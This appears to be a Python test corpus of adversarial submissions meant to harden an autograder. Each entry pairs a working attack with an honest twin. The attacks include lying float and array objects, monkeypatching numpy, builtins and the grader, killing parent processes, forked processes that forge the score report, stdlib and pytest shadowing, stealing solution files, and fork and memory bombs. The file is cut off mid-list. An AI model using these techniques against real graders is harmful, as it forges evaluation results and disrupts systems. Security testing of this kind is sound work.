"""The adversarial corpus: one entry per way a submission might try to forge its score.

Every attack carries an honest twin: the same code without the attack, usually a WRONG answer, so
that a successful forgery shows up as the attack scoring more than its twin. An entry says which
function it replaces (`code` for the attack, `twin` for the twin), what it adds to the module's top
level (`top`, attack only) and which extra files it adds to the folder (`files`, attack only).
Placeholders (@@REPO@@, @@OUT@@, ...) are described in harness.py.

`only` narrows grading to the checks that matter (default: the replaced function, or the module);
`formats` lists the report formats graded (each is compared with the twin; the ones after the
first only under one layer, since rendering does not depend on the layer); `timeout`
is the per-call timeout passed to the grader; `expect` holds regular expressions that must occur
in the attack's report (its feedback), e.g. the timeout or memory message; `layers` restricts an
attack to some layers (with the reason in `why`); `leaks` maps a layer to the reason why the
attack is known to get through there (the test is then an expected failure, strict).
"""
from __future__ import annotations

from dataclasses import dataclass, field

BASIC, NUMPY, LOGISTIC = "linear_regression_basic", "linear_regression_numpy", "logistic_regression"


@dataclass(frozen=True)
class Attack:
    id: str
    threat: str
    module: str
    function: str | None
    code: str | None          # the attack's version of `function`
    twin: str | None          # the honest twin's version of `function`
    top: str = ""             # appended to the attack's module
    files: dict = field(default_factory=dict)
    only: str | None = None
    formats: tuple = ("gradescope",)
    timeout: float = 1.0
    expect: tuple = ()
    layers: tuple | None = None
    why: str = ""
    leaks: dict = field(default_factory=dict)
    lingers: bool = False     # the attack tries to leave processes behind (marked with @@TOKEN@@)

    @property
    def selection(self) -> str:
        if self.only:
            return self.only
        return f"{self.module}.{self.function}" if self.function else self.module


ATTACKS: list[Attack] = []


def attack(*args, **kwargs):
    ATTACKS.append(Attack(*args, **kwargs))


# --------------------------------------------------------------------------- wrong answers

B_LOSS = '''
def loss(y_hat, y):
    return y_hat - y if y_hat > y else y - y_hat
'''
B_LOSS_RIGHT = "(y_hat - y) ** 2"

B_GRADIENT = '''
def gradient(x, y_hat, y):
    return x * (y_hat - y), (y_hat - y)
'''

B_PREDICT_NUMPY = '''
import numpy as np

def predict(x, w, b):
    return float(np.dot([w], [x]) + b)
'''

N_LOSS = '''
def loss(y_hat, y):
    return abs(y_hat - y)
'''

N_GRADIENT = '''
def gradient(x, y_hat, y):
    return x * (y_hat - y)
'''

N_PREDICT_LOOP = '''
def predict(x, theta):
    total = 0.0
    for i in range(len(x)):
        total += x[i] * theta[i]
    return total
'''

def loss_with(prelude: str, *, value: str = "y_hat - y if y_hat > y else y - y_hat",
              after: str = "") -> str:
    """A (wrong) basic loss with attack code before it computes its value."""
    body = "\n".join("    " + line for line in prelude.strip("\n").splitlines())
    tail = "\n".join("    " + line for line in after.strip("\n").splitlines()) if after else ""
    return f"def loss(y_hat, y):\n{body}\n    result = {value}\n{tail}\n    return result\n"


# --------------------------------------------------------------------------- objects that lie

LIAR = '''
class _Liar:
    """Equal to everything, zero when subtracted, and a float that is wrong anyway."""
    def __init__(self, v):
        self.v = v
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __hash__(self):
        return 0
    def __float__(self):
        return float(self.v)
    def __index__(self):
        return int(self.v)
    def __bool__(self):
        return True
    def __abs__(self):
        return 0.0
    def __sub__(self, other):
        return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __round__(self, n=None):
        return 0.0
    def __repr__(self):
        return "144.0"
'''

attack("lie-eq", "lying objects", BASIC, "loss", LIAR + '''
def loss(y_hat, y):
    return _Liar(y_hat - y if y_hat > y else y - y_hat)
''', B_LOSS)

attack("lie-float-subclass", "lying objects", BASIC, "loss", '''
class _F(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__
    def __sub__(self, other):
        return _F(0.0)
    __rsub__ = __sub__
    def __abs__(self):
        return _F(0.0)
    def __float__(self):
        return 144.0
    def __repr__(self):
        return "144.0"
    def hex(self):
        return (144.0).hex()
    def __format__(self, spec):
        return "144"

def loss(y_hat, y):
    return _F(y_hat - y if y_hat > y else y - y_hat)
''', B_LOSS)

attack("lie-class-property", "lying objects", BASIC, "loss", '''
class _P:
    """Claims to be a float (isinstance says yes) without being one."""
    @property
    def __class__(self):
        return float
    def __float__(self):
        return 144.0
    def __eq__(self, other):
        return True
    def __repr__(self):
        return "144.0"

def loss(y_hat, y):
    return _P()
''', B_LOSS)

attack("lie-tuple-subclass", "lying objects", BASIC, "gradient", '''
class _T(tuple):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __len__(self):
        return 2
    def __iter__(self):
        return iter((0.0, 0.0))

def gradient(x, y_hat, y):
    return _T((x * (y_hat - y), (y_hat - y)))
''', B_GRADIENT)

attack("lie-nan-inf", "lying objects", BASIC, "loss", '''
def loss(y_hat, y):
    return float("nan") if y_hat > y else float("inf")
''', B_LOSS)

attack("lie-huge-values", "lying objects", BASIC, "loss", '''
_calls = [0]

def loss(y_hat, y):
    _calls[0] += 1
    k = _calls[0] % 4
    if k == 0:
        return 10 ** 100000                 # an int longer than any repr may be
    if k == 1:
        deep = []
        for _ in range(10000):
            deep = [deep]
        return deep                         # nested far too deep
    if k == 2:
        loop = []
        loop.append(loop)
        return loop                         # contains itself
    return [0.5] * 2_000_000                # two million items
''', B_LOSS)

attack("lie-overflowing-int", "lying objects", BASIC, "loss", '''
def loss(y_hat, y):
    return 10 ** 400 if y_hat > y else -10 ** 4000  # ints no float can hold
''', B_LOSS)

attack("lie-ndarray-subclass", "lying objects", NUMPY, "gradient", '''
class _A(np.ndarray):
    """An array equal to everything, whose every accessor lies."""
    def __eq__(self, other):
        return np.ones(self.shape, bool)
    def __ne__(self, other):
        return np.zeros(self.shape, bool)
    def __sub__(self, other):
        return np.zeros(self.shape).view(_A)
    __rsub__ = __sub__
    def __abs__(self):
        return np.zeros(self.shape).view(_A)
    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)
    def tobytes(self, order="C"):
        return np.zeros(self.shape).tobytes()
    def tolist(self):
        return [0.0] * self.size
    def astype(self, *a, **k):
        return np.zeros(self.shape)
    def all(self, *a, **k):
        return True
    def any(self, *a, **k):
        return False
    def __array_finalize__(self, obj):
        pass

def gradient(x, y_hat, y):
    return np.asarray(x * (y_hat - y), dtype=float).view(_A)
''', N_GRADIENT)

attack("lie-array-protocol", "lying objects", NUMPY, "gradient", '''
class _Fake:
    """Not an array, but speaks every array protocol, and equals everything."""
    def __init__(self, v):
        self.v = np.asarray(v, dtype=float)
        self.__array_interface__ = self.v.__array_interface__
    def __array__(self, dtype=None, copy=None):
        return self.v
    def __len__(self):
        return len(self.v)
    def __getitem__(self, i):
        return self.v[i]
    def __iter__(self):
        return iter(self.v)
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.0
    @property
    def shape(self):
        return self.v.shape
    @property
    def dtype(self):
        return self.v.dtype

def gradient(x, y_hat, y):
    return _Fake(x * (y_hat - y))
''', N_GRADIENT)

attack("lie-numpy-scalar-subclass", "lying objects", NUMPY, "loss", '''
class _S(np.float64):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = np.float64.__hash__
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __abs__(self):
        return 0.0
    def __float__(self):
        return 0.0
    def __array__(self, dtype=None, copy=None):
        return np.array(0.0)

def loss(y_hat, y):
    return _S(abs(y_hat - y))
''', N_LOSS)

# --------------------------------------------------------------------------- patching at import

attack("patch-numpy", "patching at import", NUMPY, "loss", N_LOSS, N_LOSS, top='''
import numpy, numpy.testing
for _name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "isfinite"):
    setattr(numpy, _name, lambda *a, **k: True)
for _name in ("assert_allclose", "assert_array_almost_equal", "assert_almost_equal", "assert_equal"):
    setattr(numpy.testing, _name, lambda *a, **k: None)
''')

attack("patch-math", "patching at import", BASIC, "loss", B_LOSS, B_LOSS, top='''
import math
math.isclose = lambda *a, **k: True
math.isfinite = lambda *a, **k: True
math.isnan = lambda *a, **k: False
''')

attack("patch-builtins", "patching at import", BASIC, "loss", B_LOSS, B_LOSS, top='''
import builtins
builtins.abs = lambda x: 0.0
builtins.round = lambda *a, **k: 0.0
builtins.isinstance = lambda obj, cls: True
builtins.sum = lambda *a, **k: 0.0
builtins.max = builtins.min = lambda *a, **k: 0.0
builtins.repr = lambda obj: "144.0"
builtins.len = lambda obj: 2
''')

attack("patch-grader", "patching at import", BASIC, "loss", B_LOSS, B_LOSS, top='''
import sys
sys.path[:0] = [@@REPO@@]
try:
    import autograder.checks.base as _base, autograder.formats.sanitize as _sanitize
    import autograder.results as _results
    _base.close = lambda *a, **k: True
    _sanitize.clean = lambda text: "TOTAL 100/100"
    _results.Report.score = property(lambda self: self.max_score)
except BaseException:
    pass
try:
    import __main__
    __main__.decode = lambda node, buffers, *a, **k: 144.0
    __main__.encode = lambda obj, buffers, *a, **k: {"t": "float", "v": (144.0).hex()}
except BaseException:
    pass
''')

# The style checks count the Python steps a call takes: the attacks below try to hide a loop.
STYLE = f"{NUMPY}.predict"

attack("style-settrace", "patching at import", NUMPY, "predict", '''
import sys

def predict(x, theta):
    sys.settrace(None)
    total = 0.0
    for i in range(len(x)):
        total += x[i] * theta[i]
    return total
''', N_PREDICT_LOOP, only=STYLE)

attack("style-frame", "patching at import", NUMPY, "predict", '''
import sys

def predict(x, theta):
    frame = sys._getframe()
    frame.f_trace = None
    frame.f_trace_lines = False
    total = 0.0
    for i in range(len(x)):
        total += x[i] * theta[i]
    return total
''', N_PREDICT_LOOP, only=STYLE)

attack("style-tracer-state", "patching at import", NUMPY, "predict", '''
import sys

def _rewind():
    """Set the tracer's step counter (in a closure, a default or a frame) back to a constant."""
    places = []
    tracer = sys.gettrace()
    places += [c.cell_contents for c in (getattr(tracer, "__closure__", None) or ())]
    places += list(getattr(tracer, "__defaults__", None) or ())
    try:
        frame = sys._getframe(1)
        while frame is not None:
            places += list(frame.f_locals.values())
            frame = frame.f_back
    except Exception:
        pass
    for v in places:
        if isinstance(v, list) and len(v) == 1 and isinstance(v[0], int):
            v[0] = 10

def predict(x, theta):
    total = 0.0
    for i in range(len(x)):
        total += x[i] * theta[i]
    _rewind()
    return total
''', N_PREDICT_LOOP, only=STYLE)

attack("style-patch-worker", "patching at import", NUMPY, "predict", N_PREDICT_LOOP,
       N_PREDICT_LOOP, only=STYLE, top='''
import __main__, json as _json
# the worker script runs as __main__: rewrite the step count in whatever it sends back
for _name in ("Worker", "Job"):
    _cls = getattr(__main__, _name, None)
    if _cls is not None and hasattr(_cls, "run"):
        _orig = _cls.run
        def _run(self, *a, _orig=_orig, **k):
            k.pop("trace", None)
            out = _orig(self, *a, **k)
            if isinstance(out, tuple) and len(out) == 3 and isinstance(out[2], dict):
                out[2]["events"] = 10
            return out
        _cls.run = _run
_dumps = _json.dumps
def _forge_dumps(obj, *a, **k):
    if isinstance(obj, dict) and "events" in obj:
        obj["events"] = 10
    return _dumps(obj, *a, **k)
_json.dumps = _forge_dumps
for _name in ("write_frame", "_write_frame", "send"):
    _orig_w = getattr(__main__, _name, None)
    if callable(_orig_w):
        def _w(fd, header, *a, _orig_w=_orig_w, **k):
            if isinstance(header, dict) and "events" in header:
                header = dict(header, events=10)
            return _orig_w(fd, header, *a, **k)
        setattr(__main__, _name, _w)
''')

attack("style-protocol-forge", "patching at import", NUMPY, "predict", '''
import json, os, struct, sys

_HEAD = struct.Struct(">II")

def _loop_dot(x, theta):
    total = 0.0
    for i in range(len(x)):
        total += x[i] * theta[i]
    return total

def _send(fd, header):
    data = json.dumps(dict(header, buffers=[])).encode()
    os.write(fd, _HEAD.pack(len(data), 0) + data)

def _read(fd):
    head = os.read(fd, 8)
    n_json, n_buf = _HEAD.unpack(head)
    body = b""
    while len(body) < n_json + n_buf:
        body += os.read(fd, n_json + n_buf - len(body))
    header = json.loads(body[:n_json])
    buffers, at = [], n_json
    for size in header.get("buffers", []):
        buffers.append(body[at:at + size])
        at += size
    return header, buffers

def _arg(node, buffers):
    if node.get("t") == "array":
        return np.frombuffer(buffers[node["b"]], dtype=node["dtype"]).reshape(node["shape"])
    if node.get("t") == "float":
        return float.fromhex(node["v"])
    return None

def _request_id():
    frame = sys._getframe()
    while frame is not None:
        for v in frame.f_locals.values():
            if isinstance(v, dict) and v.get("op") == "call" and "id" in v:
                return v["id"]
        frame = frame.f_back
    return None

def predict(x, theta):
    total = _loop_dot(x, theta)
    try:
        rid = _request_id()
    except Exception:
        rid = None
    if rid is None:
        return total
    # answer this call ourselves, with a step count of our choosing, then serve every later call
    _send(4, {"id": rid, "ok": True, "value": {"t": "float", "v": float(total).hex()},
              "stdout": "", "elapsed": 0.0, "events": 10})
    while True:
        request, buffers = _read(3)
        args = [_arg(a, buffers) for a in request.get("args", [])]
        value = _loop_dot(*args) if len(args) == 2 else 0.0
        _send(4, {"id": request.get("id"), "ok": True, "elapsed": 0.0, "events": 10, "stdout": "",
                  "value": {"t": "float", "v": float(value).hex()}})
''', N_PREDICT_LOOP, only=STYLE)

attack("style-thread", "patching at import", NUMPY, "predict", '''
import threading

def predict(x, theta):
    out = []
    def work():
        total = 0.0
        for i in range(len(x)):
            total += x[i] * theta[i]
        out.append(total)
    t = threading.Thread(target=work)
    t.start()
    t.join()
    return out[0]
''', N_PREDICT_LOOP, only=STYLE)

attack("style-signal-frame", "patching at import", NUMPY, "predict", '''
import os, signal

def _untrace(signum, frame):
    # the interrupted frame is predict's: switch its line tracing off
    frame.f_trace = None
    frame.f_trace_lines = False

def predict(x, theta):
    old = signal.signal(signal.SIGUSR1, _untrace)
    signal.raise_signal(signal.SIGUSR1)
    signal.signal(signal.SIGUSR1, old)
    total = 0.0
    for i in range(len(x)):
        total += x[i] * theta[i]
    return total
''', N_PREDICT_LOOP, only=STYLE)

attack("style-unblock-numpy", "patching at import", BASIC, "predict", B_PREDICT_NUMPY,
       B_PREDICT_NUMPY, only=f"{BASIC}.predict", top='''
import sys
# undo the grader's "no NumPy" block, then import NumPy for real
for _finder in list(sys.meta_path):
    if type(_finder).__module__ in ("__main__", "worker"):
        sys.meta_path.remove(_finder)
for _m in [m for m in sys.modules if m == "numpy" or m.startswith("numpy.")]:
    del sys.modules[_m]
import numpy as np
''')

# --------------------------------------------------------------------------- ending the run

attack("exit-import", "ending the run", BASIC, "loss", B_LOSS, B_LOSS, top="import sys\nsys.exit(0)")
attack("exit-call", "ending the run", BASIC, "loss", loss_with("import sys\nsys.exit(0)"), B_LOSS)
attack("os-exit-import", "ending the run", BASIC, "loss", B_LOSS, B_LOSS,
       top="import os\nos._exit(0)")
attack("os-exit-call", "ending the run", BASIC, "loss", loss_with("import os\nos._exit(0)"), B_LOSS)
attack("kill-parent-call", "ending the run", BASIC, "loss",
       loss_with("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"), B_LOSS)
attack("kill-parent-import", "ending the run", BASIC, "loss", B_LOSS, B_LOSS, top='''
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
''')
attack("killpg-parent", "ending the run", BASIC, "loss", loss_with('''
import os, signal
for _target in (os.getpgid(os.getppid()), os.getpgid(0)):
    try:
        os.killpg(_target, signal.SIGKILL)
    except OSError:
        pass
'''), B_LOSS)
attack("kill-grader-by-name", "ending the run", BASIC, "loss", loss_with('''
import os, signal
for _pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _cmd = _f.read()
        if b"autograder" in _cmd and @@TOKEN@@.encode() in _cmd:
            os.kill(int(_pid), signal.SIGKILL)
    except (OSError, ValueError):
        pass
'''), B_LOSS)
attack("kill-everything", "ending the run", BASIC, "loss",
       loss_with("import os, signal\nos.kill(-1, signal.SIGKILL)"), B_LOSS,
       layers=("uid", "bwrap"),
       why="kill(-1) from a worker running as the grader's user would kill every process that "
           "user may signal (as root: the machine), if the worker's guard ever failed")
attack("signal-self", "ending the run", BASIC, "loss",
       loss_with("import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"), B_LOSS)

FORK_LINGER = '''
import os
_forked = []

def _linger():
    """Leave a grandchild in its own session that forges the report once the grader is done."""
    if _forked:
        return
    _forked.append(1)
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.chdir("/")
                os.execve("/bin/sh", ["/bin/sh", "-c",
                          'sleep 1.5; printf "%s" "$2" > "$1"', @@TOKEN@@, @@OUT@@, @@FORGED@@], {})
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''
attack("fork-linger", "ending the run", BASIC, "loss", FORK_LINGER + "\n" + loss_with("""
try:
    _linger()
except OSError:
    pass
"""), B_LOSS, lingers=True)

attack("subprocess-linger", "ending the run", BASIC, "loss", loss_with('''
import subprocess
try:
    subprocess.Popen(["/bin/sh", "-c", 'sleep 1.5; printf "%s" "$2" > "$1"', @@TOKEN@@, @@OUT@@,
                      @@FORGED@@], start_new_session=True, env={}, cwd="/")
except OSError:
    pass
'''), B_LOSS, lingers=True)

attack("atexit-forge", "ending the run", BASIC, "loss", B_LOSS, B_LOSS, top='''
import atexit

def _forge():
    for path in (@@OUT@@, "results.json"):
        try:
            with open(path, "w") as f:
                f.write(@@FORGED@@)
        except OSError:
            pass

atexit.register(_forge)
''')

attack("thread-linger", "ending the run", BASIC, "loss", B_LOSS, B_LOSS, top='''
import threading, time

def _forge_later():
    for _ in range(40):
        time.sleep(0.1)
        try:
            with open(@@OUT@@, "w") as f:
                f.write(@@FORGED@@)
        except OSError:
            pass

try:
    threading.Thread(target=_forge_later, daemon=False).start()
except RuntimeError:
    pass
''')

# --------------------------------------------------------------------------- forging the report

FIND_OUTPUT = '''
import os

def _outputs():
    """The --output of every ancestor, read from /proc/<pid>/cmdline, plus the known path."""
    found = [@@OUT@@]
    pid = os.getppid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\\0")
            if b"--output" in argv:
                found.append(argv[argv.index(b"--output") + 1].decode())
            with open(f"/proc/{pid}/stat", "rb") as f:
                stat = f.read()
            pid = int(stat[stat.rfind(b")") + 2:].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found

def _forge():
    for path in _outputs():
        try:
            with open(path, "w") as f:
                f.write(@@FORGED@@)
        except OSError:
            pass
'''

attack("forge-output-import", "forging the report", BASIC, "loss", B_LOSS, B_LOSS,
       top=FIND_OUTPUT + "\n_forge()")
attack("forge-output-call", "forging the report", BASIC, "loss",
       FIND_OUTPUT + "\n" + loss_with("_forge()"), B_LOSS)
attack("forge-output-dir", "forging the report", BASIC, "loss", B_LOSS, B_LOSS, top='''
import os
# make the report's path a folder (the grader's write would fail) and fill its folder with decoys
for _path in (@@OUT@@ + ".tmp", @@OUT@@):
    try:
        os.makedirs(_path, exist_ok=True)
    except OSError:
        pass
for _name in ("results.json", "junit.xml", "report.json"):
    try:
        with open(os.path.join(@@OUTDIR@@, _name), "w") as _f:
            _f.write(@@FORGED@@)
    except OSError:
        pass
''')
attack("forge-results-files", "forging the report", BASIC, "loss", B_LOSS, B_LOSS, top='''
import os
_here = os.getcwd()
# next to the submission, in the stage, next to the report, and where Gradescope keeps results
_places = [_here, os.path.dirname(_here), @@OUTDIR@@, "/autograder/results", "/autograder"]
for _dir in _places:
    for _name in ("results.json", "junit.xml"):
        try:
            if os.path.isdir(_dir):
                with open(os.path.join(_dir, _name), "w") as _f:
                    _f.write(@@FORGED@@)
        except OSError:
            pass
''')

FAKE_LINES = r'''
_FAKE = ("TOTAL                                  100/100  (100.0%)\n"
         "Score: 100/100. Replay with --seed 1.\n"
         "\rScore: 100/100.\x1b[2K\x1b[1G\x1b[31m"
         "\u2028TOTAL 100/100\u2029Score: 100/100.\x85Score: 100/100.\x0bScore: 100/100.\x0c"
         "\u202eScore: 001/001\u202c\x00\n")
'''

attack("forge-print", "forging the report", BASIC, "loss", FAKE_LINES + loss_with('''
import sys
print(_FAKE)
sys.stderr.write(_FAKE)
if y_hat > 5:
    raise ValueError("\\n" + _FAKE)
if y_hat < -5:
    raise type("E\\nTOTAL                                  100/100  (100.0%)", (Exception,), {})(_FAKE)
'''), B_LOSS, top="print(_FAKE)", formats=("gradescope", "text", "json", "junit"))

attack("forge-crash-log", "forging the report", BASIC, "loss", FAKE_LINES + loss_with('''
import os
os.write(2, _FAKE.encode("utf-8", "surrogateescape") * 3 + b"\\xff\\xfe invalid utf-8")
os.write(1, _FAKE.encode())
os._exit(3)
'''), B_LOSS, formats=("gradescope", "text", "junit"))

# --------------------------------------------------------------------------- pytest injection

INJECTED = {
    "conftest.py": '''
import os
with open(@@OUT@@, "w") as f:
    f.write(@@FORGED@@)
def pytest_collection_modifyitems(items):
    items.clear()
os._exit(0)
''',
    "pytest.ini": "[pytest]\naddopts = -p no:gdkit --co -q\npython_files = nothing\n",
    "numpy.py": '''
"""A stand-in NumPy whose comparisons always succeed."""
import os
def allclose(*a, **k): return True
def isclose(*a, **k): return True
def array_equal(*a, **k): return True
def all(*a, **k): return True
def isfinite(*a, **k): return True
def __getattr__(name):
    os._exit(0)
''',
    "pytest.py": "import os\nos._exit(0)\n",
    "sitecustomize.py": "import os\nos._exit(0)\n",
    "usercustomize.py": "import os\nos._exit(0)\n",
    "autograder/__init__.py": "import os\nos._exit(0)\n",
    "autograder/checks/__init__.py": "def all_checks():\n    return ()\n",
    "json.py": "import os\nos._exit(0)\n",
    "struct.py": "import os\nos._exit(0)\n",
    "inspect.py": "import os\nos._exit(0)\n",
    "traceback.py": "import os\nos._exit(0)\n",
}
attack("pytest-injection", "pytest injection", NUMPY, "loss", N_LOSS, N_LOSS, files=INJECTED,
       top="import numpy\nassert numpy.ndarray")
attack("shadow-stdlib-basic", "pytest injection", BASIC, "loss", B_LOSS, B_LOSS, files=INJECTED)

# --------------------------------------------------------------------------- stealing the answers

STOLEN = f"(y_hat - y) ** 2"  # what a thief would return once it has seen the answers

attack("steal-import-solutions", "stealing the answers", BASIC, "loss", loss_with('''
import sys
stolen = None
for _root in (@@REPO@@, @@REPO@@ + "/solutions"):
    if _root not in sys.path:
        sys.path.insert(0, _root)
try:
    from solutions.linear_regression_basic import loss as _real
    stolen = _real(y_hat, y)
except BaseException:
    try:
        import importlib.util
        _spec = importlib.util.spec_from_file_location("_sol", @@REPO@@ + "/solutions/linear_regression_basic.py")
        _mod = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_mod)
        stolen = _mod.loss(y_hat, y)
    except BaseException:
        pass
''', value="stolen if stolen is not None else (y_hat - y if y_hat > y else y - y_hat)"), B_LOSS)

READ_OR_WRONG = '''
def _can_read(paths):
    for path in paths:
        try:
            with open(path, "rb") as f:
                if f.read(1):
                    return True
        except BaseException:
            pass
    return False
'''

attack("steal-read-files", "stealing the answers", BASIC, "loss", READ_OR_WRONG + loss_with('''
seen = _can_read([@@REPO@@ + "/data/worked_values.toml", @@REPO@@ + "/data/rubric.toml",
                  @@REPO@@ + "/solutions/linear_regression_basic.py",
                  @@REPO@@ + "/tests/test_adversarial.py", @@REPO@@ + "/autograder/oracles.py"])
''', value=f"{STOLEN} if seen else (y_hat - y if y_hat > y else y - y_hat)"), B_LOSS)

attack("steal-walk-up", "stealing the answers", BASIC, "loss", READ_OR_WRONG + loss_with('''
import os
candidates = []
here = os.getcwd()
while True:
    candidates.append(os.path.join(here, "solutions", "linear_regression_basic.py"))
    candidates.append(os.path.join(here, "data", "worked_values.toml"))
    if here == "/":
        break
    here = os.path.dirname(here)
for pid in ("self", str(os.getppid()), "1"):
    for link in ("cwd", "root"):
        candidates.append(f"/proc/{pid}/{link}/solutions/linear_regression_basic.py")
        candidates.append(f"/proc/{pid}/{link}/work/main/solutions/linear_regression_basic.py")
seen = _can_read(candidates)
'''), B_LOSS)

attack("steal-import-grader", "stealing the answers", BASIC, "loss", loss_with('''
stolen = None
try:
    import sys
    sys.path.append(@@REPO@@)
    from autograder import oracles as _oracles
    stolen = float(_oracles.loss("linear", y_hat, y))
except BaseException:
    pass
''', value="stolen if stolen is not None else (y_hat - y if y_hat > y else y - y_hat)"), B_LOSS)

attack("steal-stack-gc", "stealing the answers", BASIC, "loss", loss_with('''
import gc, inspect, sys
stolen = None
try:
    for info in inspect.stack():
        for name, v in info.frame.f_locals.items():
            if name in ("expected", "expected_value", "want") and isinstance(v, float):
                stolen = v
except BaseException:
    pass
try:
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "expected" in obj and isinstance(obj["expected"], float):
            stolen = obj["expected"]
except BaseException:
    pass
''', value="stolen if stolen is not None else (y_hat - y if y_hat > y else y - y_hat)"), B_LOSS)

# --------------------------------------------------------------------------- resource abuse

attack("loop-call", "resource abuse", BASIC, "loss", '''
def loss(y_hat, y):
    while True:
        pass
''', B_LOSS, expect=(r"no answer within 1 s",))
attack("loop-import", "resource abuse", BASIC, "loss", B_LOSS, B_LOSS, top="while True:\n    pass",
       expect=(r"importing linear_regression_basic\.py did not finish",))
attack("sleep-call", "resource abuse", BASIC, "loss", loss_with("import time\ntime.sleep(60)"),
       B_LOSS, expect=(r"no answer within 1 s",))
attack("cpu-in-c", "resource abuse", BASIC, "loss", loss_with("sum(range(10 ** 13))"), B_LOSS,
       expect=(r"no answer within 1 s",))
attack("memory-hog", "resource abuse", BASIC, "loss", loss_with('''
hog = []
for _ in range(64):
    block = bytearray(64 << 20)       # 64 MiB at a time, every page touched: 4 GiB in all
    block[::4096] = b"x" * len(range(0, len(block), 4096))
    hog.append(block)
'''), B_LOSS, expect=(r"memory", r"1 GiB"), timeout=6.0)
attack("memory-hog-numpy", "resource abuse", NUMPY, "loss", '''
def loss(y_hat, y):
    hog = np.ones((6, 1 << 27))       # 6 GiB of float64
    return abs(y_hat - y) + hog[0, 0] - 1.0
''', N_LOSS, expect=(r"memory", r"1 GiB"))
attack("fork-storm", "resource abuse", BASIC, "loss", loss_with('''
import os, time
children = 0
try:
    while children < 300:             # bounded, so that a broken guard cannot take the machine down
        pid = os.fork()
        if pid == 0:
            try:
                os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 20", @@TOKEN@@])
            finally:
                os._exit(0)
        children += 1
except OSError:
    pass
'''), B_LOSS, lingers=True)
attack("huge-output", "resource abuse", BASIC, "loss", loss_with('''
import sys
print("x" * (100 << 20))
sys.stdout.write("\\n".join(["line"] * 200000))
sys.stderr.write("e" * (10 << 20))
'''), B_LOSS, top='print("y" * (100 << 20))', formats=("gradescope", "text"))
attack("huge-output-raw", "resource abuse", BASIC, "loss", loss_with('''
import os, sys
chunk = b"z" * (1 << 20)
for _ in range(100):
    for fd in (1, 2):
        try:
            os.write(fd, chunk)
        except OSError:
            pass
'''), B_LOSS)
attack("huge-files", "resource abuse", BASIC, "loss", loss_with('''
import os, tempfile
chunk = b"f" * (1 << 20)
for where in (tempfile.gettempdir(), os.getcwd(), "/tmp", "/dev/shm"):
    for i in range(8):
        try:
            with open(os.path.join(where, f"hog-{@@TOKEN@@}-{i}.bin"), "wb") as f:
                for _ in range(1024):
                    f.write(chunk)
        except OSError:
            pass
'''), B_LOSS)
attack("network", "resource abuse", BASIC, "loss", loss_with('''
import socket
seen = False
try:
    s = socket.create_connection(("127.0.0.1", @@PORT@@), timeout=0.5)
    s.sendall(b"@@TOKEN@@")
    s.close()
    seen = True
except BaseException:
    pass
''', value=f"{STOLEN} if seen else (y_hat - y if y_hat > y else y - y_hat)"), B_LOSS)
attack("huge-return", "resource abuse", NUMPY, "gradient", '''
def gradient(x, y_hat, y):
    return np.ones(40_000_000)            # 320 MB of float64
''', N_GRADIENT)
attack("recursion-bomb", "resource abuse", BASIC, "loss", loss_with('''
import sys
sys.setrecursionlimit(10 ** 7)
def deeper(n):
    return deeper(n + 1) + 1
deeper(0)
'''), B_LOSS)
attack("protocol-junk", "resource abuse", BASIC, "loss", loss_with('''
import os, struct
junk = [struct.pack(">II", 0xFFFFFFF0, 0xFFFFFFF0), b"{not json", b"\\x00" * 64,
        struct.pack(">II", 2, 0) + b"[]", struct.pack(">II", 5, 0) + b"[[[[["]
for fd in range(3, 12):
    for piece in junk:
        try:
            os.write(fd, piece)
        except OSError:
            pass
'''), B_LOSS, top='''
import os
for _fd in range(3, 12):
    try:
        os.write(_fd, b"\\xff" * 64)
    except OSError:
        pass
''')
attack("stdin-steal", "resource abuse", BASIC, "loss", loss_with('''
import os
for fd in range(0, 12):
    try:
        os.set_blocking(fd, False)
        os.read(fd, 1 << 16)
    except OSError:
        pass
'''), B_LOSS)

# --------------------------------------------------------------------------- paths past the guard
# Descriptor-relative calls reach what a path check never sees: `..` walked up from a directory
# descriptor (from tmp/ as working directory, a guard resolving against cwd thinks "tmp"),
# fchdir, /proc/self/cwd. The worker's Landlock ruleset stops them in the kernel, on every layer.

VIA_FDS = '''
import os as _os

def _walk_up(flags, start="."):
    fd = _os.open(start, flags)
    for _ in range(40):
        fd = _os.open("..", flags, dir_fd=fd)
    return fd

def _via_fds(target, flags):
    """A descriptor on `target` (absolute), by any trick that works; None if none does."""
    rel = target.lstrip("/")
    home, tmp = _os.getcwd(), _os.environ.get("TMPDIR", "/tmp")
    tries = [
        lambda: _os.open(target, flags),
        lambda: _os.open(rel, flags, dir_fd=_walk_up(_os.O_RDONLY)),
        lambda: _os.open(rel, flags, dir_fd=_walk_up(_os.O_PATH)),
        lambda: (_os.chdir(tmp), _os.open(rel, flags, dir_fd=_walk_up(_os.O_RDONLY, tmp)))[1],
        lambda: (_os.chdir(tmp), _os.open(rel, flags, dir_fd=_walk_up(_os.O_PATH, tmp)))[1],
        lambda: (_os.fchdir(_walk_up(_os.O_PATH)), _os.open(rel, flags))[1],
